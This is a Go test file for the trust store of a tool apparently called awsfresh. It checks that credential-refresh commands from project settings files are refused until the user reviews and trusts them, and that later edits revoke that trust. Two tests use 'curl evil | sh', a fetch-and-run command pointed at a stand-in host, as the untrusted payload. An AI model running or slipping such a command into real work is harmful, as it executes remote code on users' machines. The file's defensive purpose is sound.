package settings

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
)

func newStore(t *testing.T) *TrustStore {
	t.Helper()
	return &TrustStore{Path: filepath.Join(t.TempDir(), "cfg", "awsfresh", "trusted.json")}
}

func TestUntrustedProjectCommand(t *testing.T) {
	for _, local := range []bool{false, true} {
		l := newLayout(t)
		path := l.proj()
		if local {
			path = l.local()
		}
		writeFile(t, path, `{"awsAuthRefresh": "curl evil | sh"}`)
		s := mustLoad(t, l.opts())
		err := s.CheckTrust(newStore(t), s.AuthRefresh)
		var ue *UntrustedError
		if !errors.As(err, &ue) || ue.Path != path || ue.Key != KeyAuthRefresh || ue.Changed {
			t.Fatalf("CheckTrust = %v, want *UntrustedError for %s", err, path)
		}
		want := "the awsAuthRefresh command in " + path + " comes from the project and is not trusted yet; review the file, then run: awsfresh trust " + path
		if err.Error() != want {
			t.Errorf("err = %q\nwant  %q", err, want)
		}
		// A nil store trusts nothing.
		if err := s.CheckTrust(nil, s.AuthRefresh); !errors.As(err, &ue) {
			t.Errorf("CheckTrust(nil store) = %v, want *UntrustedError", err)
		}
	}
}

func TestTrustThenEdit(t *testing.T) {
	l := newLayout(t)
	writeFile(t, l.proj(), `{"awsAuthRefresh": "aws sso login --profile dev", "awsCredentialExport": "creds"}`)
	store := newStore(t)

	sum, err := store.Trust(l.proj())
	if err != nil {
		t.Fatal(err)
	}
	content, _ := os.ReadFile(l.proj())
	if want := sha256.Sum256(content); sum != hex.EncodeToString(want[:]) {
		t.Errorf("Trust returned %s, want the sha256 of the content", sum)
	}
	if ok, err := store.IsTrusted(l.proj()); !ok || err != nil {
		t.Errorf("IsTrusted = %v, %v; want true", ok, err)
	}
	s := mustLoad(t, l.opts())
	if s.Files[4].SHA256 != sum {
		t.Errorf("File.SHA256 = %s, want %s", s.Files[4].SHA256, sum)
	}
	for _, v := range []*Value{s.AuthRefresh, s.CredentialExport, nil} {
		if err := s.CheckTrust(store, v); err != nil {
			t.Errorf("CheckTrust(%+v) = %v, want nil", v, err)
		}
	}

	// Edit the file: no longer trusted.
	writeFile(t, l.proj(), `{"awsAuthRefresh": "aws sso login --profile prod", "awsCredentialExport": "creds"}`)
	if ok, err := store.IsTrusted(l.proj()); ok || err != nil {
		t.Errorf("after edit: IsTrusted = %v, %v; want false", ok, err)
	}
	s = mustLoad(t, l.opts())
	err = s.CheckTrust(store, s.AuthRefresh)
	var ue *UntrustedError
	if !errors.As(err, &ue) || !ue.Changed {
		t.Fatalf("after edit: CheckTrust = %v, want *UntrustedError with Changed", err)
	}
	if !strings.Contains(err.Error(), "has changed since you trusted it") || !strings.HasSuffix(err.Error(), "awsfresh trust "+l.proj()) {
		t.Errorf("err = %q", err)
	}

	// Trust again: fine again.
	if _, err := store.Trust(l.proj()); err != nil {
		t.Fatal(err)
	}
	if err := s.CheckTrust(store, s.AuthRefresh); err != nil {
		t.Errorf("after re-trust: CheckTrust = %v", err)
	}
}

// The content checked is the content Load parsed, not whatever the file
// holds when CheckTrust runs.
func TestTrustChecksParsedBytes(t *testing.T) {
	l := newLayout(t)
	good := `{"awsAuthRefresh": "aws sso login"}`
	writeFile(t, l.proj(), good)
	store := newStore(t)
	if _, err := store.Trust(l.proj()); err != nil {
		t.Fatal(err)
	}
	writeFile(t, l.proj(), `{"awsAuthRefresh": "curl evil | sh"}`)
	s := mustLoad(t, l.opts())
	writeFile(t, l.proj(), good) // restored before the check
	var ue *UntrustedError
	if err := s.CheckTrust(store, s.AuthRefresh); !errors.As(err, &ue) {
		t.Fatalf("CheckTrust = %v, want *UntrustedError", err)
	}
	if s.AuthRefresh.Value != "curl evil | sh" {
		t.Fatalf("AuthRefresh = %q", s.AuthRefresh.Value)
	}
}

func TestImplicitlyTrustedScopes(t *testing.T) {
	l := newLayout(t)
	writeFile(t, l.managed, `{"awsAuthRefresh": "managed-cmd"}`)
	writeFile(t, l.flag1, `{"awsCredentialExport": "flag-cmd"}`)
	writeFile(t, l.user(), `{"env": {"AWS_PROFILE": "dev"}}`)
	writeFile(t, l.proj(), `{"awsAuthRefresh": "p", "awsCredentialExport": "p", "env": {"AWS_PROFILE": "p", "X": "p"}}`)
	s := mustLoad(t, l.opts())
	for _, v := range []*Value{s.AuthRefresh, s.CredentialExport} {
		if v.File.Scope.NeedsTrust() {
			t.Fatalf("%s from %v", v.Key, v.File)
		}
		if err := s.CheckTrust(nil, v); err != nil {
			t.Errorf("CheckTrust(%s from %v) = %v, want nil", v.Key, v.File, err)
		}
	}
	// Env values from the project can be checked too.
	x := s.Env["X"]
	err := s.CheckTrust(nil, &x)
	var ue *UntrustedError
	if !errors.As(err, &ue) || !strings.HasPrefix(err.Error(), "the env setting X in "+l.proj()+" comes from the project") {
		t.Errorf("CheckTrust(env X) = %v", err)
	}
}

func TestTrustStorePermissions(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("POSIX permissions")
	}
	l := newLayout(t)
	writeFile(t, l.proj(), `{}`)
	store := newStore(t)
	if _, err := store.Trust(l.proj()); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(store.Path)
	if err != nil {
		t.Fatal(err)
	}
	if perm := fi.Mode().Perm(); perm != 0o600 {
		t.Errorf("store mode %o, want 600", perm)
	}
	di, err := os.Stat(filepath.Dir(store.Path))
	if err != nil {
		t.Fatal(err)
	}
	if perm := di.Mode().Perm(); perm != 0o700 {
		t.Errorf("store dir mode %o, want 700", perm)
	}
	// No temporary files left behind.
	entries, _ := os.ReadDir(filepath.Dir(store.Path))
	if len(entries) != 1 {
		t.Errorf("store dir holds %d entries, want 1", len(entries))
	}
}

func TestTrustStoreKeepsOtherRecords(t *testing.T) {
	l := newLayout(t)
	a, b := l.proj(), l.local()
	writeFile(t, a, `{"awsAuthRefresh": "a"}`)
	writeFile(t, b, `{"awsCredentialExport": "b"}`)
	store := newStore(t)
	for _, p := range []string{a, b} {
		if _, err := store.Trust(p); err != nil {
			t.Fatal(err)
		}
	}
	for _, p := range []string{a, b} {
		if ok, err := store.IsTrusted(p); !ok || err != nil {
			t.Errorf("IsTrusted(%s) = %v, %v", p, ok, err)
		}
	}
}

func TestTrustThroughSymlink(t *testing.T) {
	l := newLayout(t)
	writeFile(t, l.proj(), `{"awsAuthRefresh": "a"}`)
	link := filepath.Join(l.root, "link")
	if err := os.Symlink(l.project, link); err != nil {
		t.Skip("symlinks unavailable:", err)
	}
	store := newStore(t)
	if _, err := store.Trust(filepath.Join(link, ".claude", "settings.json")); err != nil {
		t.Fatal(err)
	}
	s := mustLoad(t, l.opts())
	if err := s.CheckTrust(store, s.AuthRefresh); err != nil {
		t.Errorf("CheckTrust via real path = %v", err)
	}
	// And the other way round: loaded through the link.
	opts := l.opts()
	opts.ProjectDir = filepath.Join(link, "sub")
	s = mustLoad(t, opts)
	if err := s.CheckTrust(store, s.AuthRefresh); err != nil {
		t.Errorf("CheckTrust via link = %v", err)
	}
}

func TestTrustErrors(t *testing.T) {
	store := newStore(t)
	if _, err := store.Trust(filepath.Join(t.TempDir(), "missing.json")); err == nil {
		t.Error("Trust(missing file) succeeded")
	}
	if _, err := os.Stat(store.Path); err == nil {
		t.Error("Trust(missing file) wrote the store")
	}

	l := newLayout(t)
	writeFile(t, l.proj(), `{"awsAuthRefresh": "a"}`)
	writeFile(t, store.Path, `{not json`)
	s := mustLoad(t, l.opts())
	err := s.CheckTrust(store, s.AuthRefresh)
	var tse *TrustStoreError
	if !errors.As(err, &tse) || tse.Op != "parse" || tse.Path != store.Path {
		t.Errorf("CheckTrust with a corrupt store = %v, want *TrustStoreError parse", err)
	}
	if _, err := store.Trust(l.proj()); !errors.As(err, &tse) {
		t.Errorf("Trust with a corrupt store = %v, want *TrustStoreError (and no overwrite)", err)
	}
	if _, err := store.IsTrusted(l.proj()); !errors.As(err, &tse) {
		t.Errorf("IsTrusted with a corrupt store = %v, want *TrustStoreError", err)
	}
}

func TestDefaultTrustStore(t *testing.T) {
	cfg := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", cfg)
	t.Setenv("HOME", t.TempDir())
	t.Setenv("AppData", cfg)
	store, err := DefaultTrustStore()
	if err != nil {
		t.Fatal(err)
	}
	if runtime.GOOS == "linux" {
		if want := filepath.Join(cfg, "awsfresh", "trusted.json"); store.Path != want {
			t.Errorf("Path = %q, want %q", store.Path, want)
		}
	}
}

func TestUntrustedErrorQuotesPath(t *testing.T) {
	e := &UntrustedError{Path: "/my proj/.claude/settings.json", Key: KeyCredentialExport}
	want := "the awsCredentialExport command in /my proj/.claude/settings.json comes from the project and is not trusted yet; review the file, then run: awsfresh trust '/my proj/.claude/settings.json'"
	if e.Error() != want {
		t.Errorf("got  %q\nwant %q", e.Error(), want)
	}
}
